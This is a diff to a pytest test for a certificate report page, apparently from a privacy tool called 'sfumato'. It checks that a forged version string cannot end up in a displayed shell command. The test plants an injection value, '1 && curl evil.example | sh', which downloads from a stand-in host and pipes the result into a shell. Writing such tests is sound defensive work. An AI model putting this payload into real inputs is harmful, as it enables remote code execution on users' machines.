@@ -204,9 +204,10 @@ def test_a_forged_version_never_becomes_part_of_a_command(unheard):
     from sfumato.privacy.certificate import certify
 
     forged = certify(unheard, unheard.files())
+    assert "made by version" in words(report_page(unheard, forged, None))
     forged["versions"]["sfumato"] = "1 && curl evil.example | sh"
     text = words(report_page(unheard, forged, None))
-    assert "$ pip install sfumato $ sfumato verify" in text
+    assert "$ pip install -e . $ sfumato verify" in text and "made by version" not in text
 
 
 @pytest.mark.parametrize(
